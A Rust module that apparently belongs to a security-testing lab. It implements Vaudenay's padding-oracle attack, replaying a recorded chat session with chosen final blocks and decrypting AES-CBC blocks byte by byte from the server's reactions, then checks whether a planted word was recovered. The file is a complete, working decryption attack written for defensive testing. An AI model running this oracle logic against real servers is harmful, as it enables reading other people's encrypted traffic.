//! The attack of Vaudenay (2002): blocks of a recording are read from the server's reactions to
//! pieces whose last two blocks the attacker has chosen.

use glassline_tap::Direction;

use super::line::intercept;
use crate::bytes::find;
use crate::lab::{Effort, Lab};
use crate::outcome::{Defect, Outcome};

/// Bytes of a block of AES.
const BLOCK_BYTES: usize = 16;
/// Bytes of a text that have to be read.
const READ_BYTES_MIN: usize = 6;

/// A piece, and what stands before it on its connection.
struct Sample {
    before: Vec<Vec<u8>>,
    piece: Vec<u8>,
}

/// Observable part of a reaction.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Reaction {
    /// The answer is the same each time, so that its content says something.
    Content(bool, Vec<u8>),
    /// Only its length does.
    Length(bool, usize),
}

/// Sends chosen pieces to the server.
struct Oracle {
    sample: Sample,
    is_repeatable: bool,
}

impl Oracle {
    fn new(lab: &mut Lab<'_>, sample: Sample) -> Self {
        let mut oracle = Self { sample, is_repeatable: true };
        let chosen = oracle.chosen(&[0; BLOCK_BYTES], &[0; BLOCK_BYTES]);
        oracle.is_repeatable = oracle.reaction(lab, &chosen) == oracle.reaction(lab, &chosen);
        oracle
    }

    /// The recorded piece with other last blocks, and of the same length.
    fn chosen(&self, before_last: &[u8; BLOCK_BYTES], last: &[u8]) -> Vec<u8> {
        let kept = self.sample.piece.len() - 2 * BLOCK_BYTES;
        [&self.sample.piece[..kept], before_last, last].concat()
    }

    /// Connects as Alice's recorded bytes do, and returns the reaction to `piece`.
    fn reaction(&self, lab: &mut Lab<'_>, piece: &[u8]) -> Reaction {
        let chat = lab.chat();
        let mut conversation = lab.connect(&chat);
        for earlier in &self.sample.before {
            conversation.put(Direction::ToServer, earlier);
            conversation.act();
            let _ = conversation.take(Direction::ToClient);
        }
        conversation.put(Direction::ToServer, piece);
        let answer = conversation.take(Direction::ToClient);
        let is_closed = conversation.server.error().is_some();
        if self.is_repeatable {
            Reaction::Content(is_closed, answer)
        } else {
            Reaction::Length(is_closed, answer.len())
        }
    }

    /// Finds the reaction to invalid padding: that of nearly all values of a byte.
    fn usual(&self, lab: &mut Lab<'_>, target: &[u8]) -> (Reaction, usize) {
        let mut reactions: Vec<(Reaction, usize)> = Vec::new();
        for value in 0..=u8::MAX {
            let mut block = [0; BLOCK_BYTES];
            block[BLOCK_BYTES - 1] = value;
            let reaction = self.reaction(lab, &self.chosen(&block, target));
            match reactions.iter_mut().find(|(known, _)| *known == reaction) {
                Some((_, count)) => *count += 1,
                None => reactions.push((reaction, 1)),
            }
        }
        let kinds = reactions.len();
        let usual = reactions.into_iter().max_by_key(|(_, count)| *count).map(|(reaction, _)| reaction);
        (usual.unwrap_or(Reaction::Length(false, 0)), kinds)
    }

    /// Decrypts one block, from its last byte to its first.
    fn decrypt(&self, lab: &mut Lab<'_>, usual: &Reaction, target: &[u8], previous: &[u8]) -> Option<Vec<u8>> {
        let mut state = [0_u8; BLOCK_BYTES];
        for at in (0..BLOCK_BYTES).rev() {
            let padding = u8::try_from(BLOCK_BYTES - at).ok()?;
            let mut block = [0; BLOCK_BYTES];
            for later in at + 1..BLOCK_BYTES {
                block[later] = state[later] ^ padding;
            }
            let mut is_valid = |lab: &mut Lab<'_>, value: u8, noise: u8| {
                block[at] = value;
                if at > 0 {
                    // A longer padding that happens to be valid does not survive this.
                    block[at - 1] = noise;
                }
                self.reaction(lab, &self.chosen(&block, target)) != *usual
            };
            let value = (0..=u8::MAX).find(|&value| is_valid(lab, value, 0) && is_valid(lab, value, 0xff))?;
            state[at] = value ^ padding;
        }
        Some(state.iter().zip(previous).map(|(byte, previous)| byte ^ previous).collect())
    }
}

pub(crate) fn read(lab: &mut Lab<'_>) -> Result<Outcome, Defect> {
    let chat = lab.chat();
    let mut recorded = lab.session(&chat)?;
    let up = recorded.recording().iter().filter(|piece| piece.direction == Direction::ToServer);
    let before = up.map(|piece| piece.bytes.clone()).collect();
    let text = lab.random().word();
    let piece = intercept(&mut recorded, &text);
    recorded.put(Direction::ToServer, &piece);
    recorded.pump();
    recorded.close();
    if piece.len() < 4 * BLOCK_BYTES {
        lab.note("a piece has less than four blocks of 16 bytes");
        return Ok(Outcome::Stopped);
    }
    let blocks: Vec<&[u8]> = piece.rchunks_exact(BLOCK_BYTES).collect();
    let oracle = Oracle::new(lab, Sample { before, piece: piece.clone() });
    let (usual, kinds) = oracle.usual(lab, blocks[1]);
    lab.note(format!("256 changed copies of a piece cause {kinds} different reactions"));
    if kinds == 1 {
        return Ok(Outcome::Stopped);
    }
    let targets = if lab.effort() == Effort::Few { 1..3 } else { 1..4 };
    let mut plaintext = Vec::new();
    for at in targets.rev().filter(|at| at + 1 < blocks.len()) {
        let Some(block) = oracle.decrypt(lab, &usual, blocks[at], blocks[at + 1]) else {
            lab.note("the reactions do not depend on a padding");
            return Ok(Outcome::Stopped);
        };
        plaintext.extend(block);
    }
    lab.note(format!("read from reactions: {}", String::from_utf8_lossy(&plaintext)));
    let parts = text.as_bytes().windows(READ_BYTES_MIN);
    let is_read = parts.into_iter().any(|part| find(&plaintext, part).is_some());
    Ok(if is_read { Outcome::Succeeds } else { Outcome::Stopped })
}
